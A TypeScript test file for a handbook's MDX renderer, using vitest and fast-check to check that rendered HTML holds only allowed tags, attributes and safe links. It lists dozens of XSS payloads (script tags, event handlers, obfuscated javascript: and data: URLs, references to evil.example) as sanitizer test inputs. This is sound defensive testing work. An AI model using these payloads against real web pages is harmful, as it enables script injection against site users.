import fc from 'fast-check';
import type { Element } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import { beforeAll, describe, expect, it } from 'vitest';
import { parseBody } from '../../src/handbook/reading/body.ts';
import type { Handbook } from '../../src/handbook/types.ts';
import { renderBody } from '../../src/render/render.ts';
import { handbookIn, role } from '../handbook/content-folder.ts';

/**
 * What a browser may find in a body, written down apart from the list of the renderer: a mistake
 * there must not be one here.
 */
const elements: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'title', 'dataFootnoteRef', 'dataFootnoteBackref', 'ariaLabel', 'ariaDescribedBy'],
  abbr: ['title'],
  code: [],
  details: ['open'],
  div: ['role', 'tabIndex', 'ariaLabel'],
  img: ['src', 'alt', 'title', 'loading'],
  input: ['type', 'checked', 'disabled'],
  ol: ['start'],
  section: ['dataFootnotes'],
  td: ['align'],
  th: ['align'],
  ...Object.fromEntries(
    'blockquote br del em figcaption figure h1 h2 h3 h4 h5 h6 hr kbd li mark p pre span strong sub summary sup table tbody thead tr ul'
      .split(' ')
      .map((name) => [name, []]),
  ),
};

let handbook: Handbook;

beforeAll(() => {
  handbook = handbookIn({
    'roles/role-lead.mdx': role('\n## Part\n'),
    'files/a.png': Buffer.from('89504e470d0a1a0a', 'hex'),
  });
});

/** The HTML of a body, with no rule asked what it thinks of it. */
function html(body: string, of: Handbook = handbook): string {
  const { tree } = parseBody(body, 'roles/role-lead.mdx');
  return renderBody(
    { id: 'role-lead', collection: 'roles', file: `roles/${++bodies}.mdx`, body: tree },
    { handbook: of, base: '/' },
  ).html;
}
/** Bodies are remembered by their files. */
let bodies = 0;

/** What a browser would make of HTML that no body consists of. */
function strangers(text: string): string[] {
  const found: string[] = [];
  visit(fromHtml(text, { fragment: true }), (node) => {
    if (node.type === 'element') found.push(...strangersOf(node));
    else if (node.type !== 'text' && node.type !== 'root') found.push(node.type);
  });
  return found;
}

function strangersOf({ tagName, properties }: Element): string[] {
  const known = elements[tagName];
  if (!known || !Object.hasOwn(elements, tagName)) return [`<${tagName}>`];
  const found = Object.keys(properties)
    .filter((name) => !['id', 'className', 'dir', ...known].includes(name))
    .map((name) => `${tagName} ${name}`);
  const { href, src } = properties;
  if (href !== undefined && !isSafe(String(href))) found.push(String(href));
  if (
    src !== undefined &&
    new URL(String(src), 'https://handbook.example/').host !== 'handbook.example'
  )
    found.push(String(src));
  return found;
}

/** Whether a browser that follows an address runs nothing, and leaves the site only as it says. */
function isSafe(address: string): boolean {
  // A browser does not follow what is none.
  if (!URL.canParse(address, page)) return true;
  const { protocol, host } = new URL(address, page);
  if (['mailto:', 'tel:'].includes(protocol)) return true;
  if (!['https:', 'http:'].includes(protocol)) return false;
  return host === new URL(page).host || /^\s*https?:/i.test(address);
}
const page = 'https://handbook.example/roles/a/';

/** Kinds of payload, each with what would run or fetch in a browser that trusts a page. */
const payloads = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js" />',
  '<img src="x" onerror="alert(1)" />',
  '<svg onload="alert(1)"><animate onbegin="alert(1)" attributeName="x" /></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe srcdoc="<script>alert(1)</script>" />',
  '<object data="data:text/html,x" /><embed src="javascript:alert(1)" />',
  '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
  '<base href="https://evil.example/" /><link rel="stylesheet" href="https://evil.example/" />',
  '<style>{`@import "https://evil.example"`}</style>',
  '<a href="javascript:alert(1)" target="_blank" ping="https://evil.example">x</a>',
  '<details open ontoggle="alert(1)"><summary onclick="alert(1)">x</summary>x</details>',
  '<kbd style="background:url(https://evil.example)" id="x" class="y" is="x-y">x</kbd>',
  '<abbr title="&quot; onmouseover=&quot;alert(1)">x</abbr>',
  '<mark __proto__="x" constructor="y" dangerouslySetInnerHTML={{__html: "<script>"}}>x</mark>',
  '<constructor>x</constructor><__proto__>x</__proto__><toString />',
  '<Ref to="javascript:alert(1)" /><Ref to="<script>" /><Ref to="role-lead" onclick="alert(1)" />',
  '<Callout type="&quot;><script>alert(1)</script>">\n\nx\n\n</Callout>',
  '<Callout type="constructor">x</Callout><Callout type="__proto__">x</Callout>',
  '<Figure src="javascript:alert(1)" alt="<script>" caption="</figure><script>alert(1)</script>" />',
  '<Figure src="https://evil.example/x.png" alt="x" />',
  '<Figure src="files/a.png" alt="&quot; onload=&quot;alert(1)" caption="x" />',
  '[x](javascript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#106;avascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1) "&quot; onclick=&quot;alert(1)")',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x) [x](file:///etc/passwd) [x](blob:x) [x](view-source:x)',
  '[x](//evil.example) [x](/\\evil.example) [x](\\\\evil.example) [x](&#x2f;/evil.example)',
  '![x](https://evil.example/x.png) ![x](//evil.example/x.png) ![x](data:image/svg+xml,x)',
  '![x][a]\n\n[a]: https://evil.example/x.png',
  '[x][b]\n\n[b]: javascript:alert(1) "t"',
  '<javascript:alert(1)> <https://x.example/"onclick=alert(1)>',
  'https://x.example/"onmouseover="alert(1) www.x.example/<script>',
  '{alert(1)} {`<script>`}',
  'export const x = 1\n\nimport y from "y"',
  '## <script>alert(1)</script> {#x}',
  '| <img src="x" onerror="alert(1)" /> |\n| --- |\n| [x](javascript:alert(1)) |',
  '[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
  '[^"><script>]\n\n[^"><script>]: x',
  '```js" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '</p></div></main><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img onerror=x&#62;',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
  '<template><script>x</script></template><plaintext>x</plaintext><xmp>x</xmp>',
  '<x:y z:w="1">x</x:y><a.b.c>x</a.b.c><></>',
];

/** Pieces of which bodies are made that break out of one place into another. */
const pieces = [
  ...payloads,
  ...[
    '<',
    '>',
    '"',
    "'",
    '`',
    '{',
    '}',
    '/',
    '\\',
    '&',
    '[',
    ']',
    '(',
    ')',
    '!',
    '|',
    '\n',
    '\n\n',
  ],
  ...['<kbd ', '<a ', '<Ref ', '<Callout ', '</Callout>', ' to="', ' href="', ' onclick="x"', '/>'],
  ...['](', '![', 'javascript:', 'java\tscript:', '&colon;', '&#0;', '\u0000', '\u2028', '\ufffd'],
  ...[
    '# ',
    '- ',
    '> ',
    '1. ',
    '    ',
    '[^1]',
    '[^1]: ',
    '```',
    '~~',
    '**',
    '<!--',
    '-->',
    '<![CDATA[',
  ],
  ...['role-lead', 'POL-01', 'A.6.2.4', 'text', '\u202e', '\ud800', '|---|', 'https://x.example/'],
];

describe('a body renders to nothing but what a body consists of', () => {
  it.each(payloads)('%s', (payload) => {
    for (const body of [
      payload,
      `text ${payload} text`,
      `- ${payload}`,
      `> ${payload}`,
      `# ${payload}`,
      `<kbd>${payload}</kbd>`,
      `<Callout type="note">\n\n${payload}\n\n</Callout>`,
    ])
      expect(strangers(html(body)), body).toEqual([]);
  });

  it('whatever pieces it is made of', { timeout: 120_000 }, () => {
    const body = fc
      .array(
        fc.oneof(
          { weight: 6, arbitrary: fc.constantFrom(...pieces) },
          fc.string({ unit: 'binary' }),
        ),
        {
          maxLength: 14,
        },
      )
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(body, (text) => {
        expect(strangers(html(text))).toEqual([]);
      }),
      { numRuns: 3000 },
    );
  });

  it('whatever a link leads to', { timeout: 120_000 }, () => {
    const sign = fc.constantFrom(
      ...['javascript', 'JAVA', 'script', 'data', ':', '//', '/', '\\', '&Tab;', '&#10;', '&#x0A;'],
      ...['&colon;', '%0a', '%3a', '\u0001', '\u00ad', '\u200b', '\ufffd', '&#0;', '?', '#', '..'],
      ...['https', 'mailto', 'evil.example', '@', 'x', '"', '&quot;', 'files/a.png', '[', '.mdx'],
    );
    const address = fc.array(sign, { minLength: 1, maxLength: 8 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(address, (url) => {
        for (const body of [`[x](${url})`, `[x](<${url}>)`, `![x](${url})`, `[x]\n\n[x]: ${url}`])
          expect(strangers(html(body)), body).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  it('whatever values its tags have', { timeout: 120_000 }, () => {
    const name = fc.constantFrom(
      'Ref',
      'Callout',
      'Figure',
      'abbr',
      'details',
      'kbd',
      'a',
      'img',
      'svg',
    );
    const attribute = fc.constantFrom(
      ...['to', 'type', 'src', 'alt', 'caption', 'title', 'open', 'href', 'onclick', 'style', 'id'],
    );
    const value = fc.oneof(
      fc.constantFrom('role-lead', 'note', 'files/a.png', 'javascript:alert(1)', '//evil.example'),
      fc.string({ unit: 'binary' }),
      fc.constantFrom(...payloads),
    );
    const tag = fc.tuple(name, fc.array(fc.tuple(attribute, value), { maxLength: 4 }));
    fc.assert(
      fc.property(tag, ([element, attributes]) => {
        const written = attributes
          .map(
            ([key, text]) => `${key}="${text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"`,
          )
          .join(' ');
        expect(
          strangers(html(`<${element} ${written}>x</${element}>\n\n<${element} ${written} />`)),
        ).toEqual([]);
      }),
      { numRuns: 1500 },
    );
  });

  it('whatever the fields of entries say that it shows', { timeout: 120_000 }, () => {
    const title = fc.oneof(
      fc.constantFrom(...payloads),
      fc.string({ unit: 'binary', minLength: 1 }),
    );
    fc.assert(
      fc.property(title, (text) => {
        const changed: Handbook = {
          ...handbook,
          byId: new Map(
            [...handbook.byId].map(([id, entry]) => [
              id,
              { ...entry, data: { ...entry.data, title: text } } as typeof entry,
            ]),
          ),
        };
        const shown = html('<Ref to="role-lead" />', changed);
        expect(strangers(shown)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  it('notices what is none', () => {
    expect(strangers('<p onclick="x">a<script></script></p>')).toEqual(['p onClick', '<script>']);
    expect(strangers('<a href="java\tscript:x">a</a>')).toEqual(['java\tscript:x']);
    expect(strangers('<a href="/\\evil.example">a</a>')).toEqual(['/\\evil.example']);
    expect(strangers('<img src="https://evil.example/x">')).toEqual(['https://evil.example/x']);
    expect(strangers('<!-- x -->')).toEqual(['comment']);
  });
});
